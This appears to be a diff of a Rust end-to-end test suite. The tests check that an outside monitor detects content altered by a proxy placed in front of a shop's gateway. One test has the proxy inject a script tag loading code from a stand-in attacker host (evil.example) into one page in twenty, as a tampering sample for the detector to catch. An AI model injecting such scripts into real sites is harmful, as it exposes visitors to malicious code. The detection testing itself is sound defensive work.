@@ -1,7 +1,7 @@
 //! Somebody in front of the gate changes what customers are sent. The gate cannot see it; the watch sees it from outside.
 #![allow(clippy::unwrap_used)]
 
-use e2e::proxy::{Change, Proxy};
+use e2e::proxy::{self, Change, Proxy};
 use serde_json::Value;
 use std::process::Command;
 use testkit::Dozo;
@@ -31,7 +31,7 @@ fn look(shop: &Dozo, through: &Proxy, rounds: u32) -> Vec<Value> {
 #[test]
 fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
     let shop = Dozo::start();
-    let proxy = Proxy::start(&shop).unwrap();
+    let proxy = proxy::in_front_of(&shop).unwrap();
     let found = look(&shop, &proxy, 12);
     assert!(found.is_empty(), "an ordinary shop is quiet: {found:#?}");
     for (what, why, change) in [
@@ -74,7 +74,7 @@ fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
 #[test]
 fn one_visitor_in_twenty_is_found_within_sixty_looks_at_a_page() {
     let shop = Dozo::start();
-    let proxy = Proxy::start(&shop).unwrap();
+    let proxy = proxy::in_front_of(&shop).unwrap();
     proxy
         .set(&[Change::OneInTwenty("</body>", "<script src=\"https://evil.example/a.js\"></script></body>")]);
     // Every round looks at three pages or more: sixty looks.
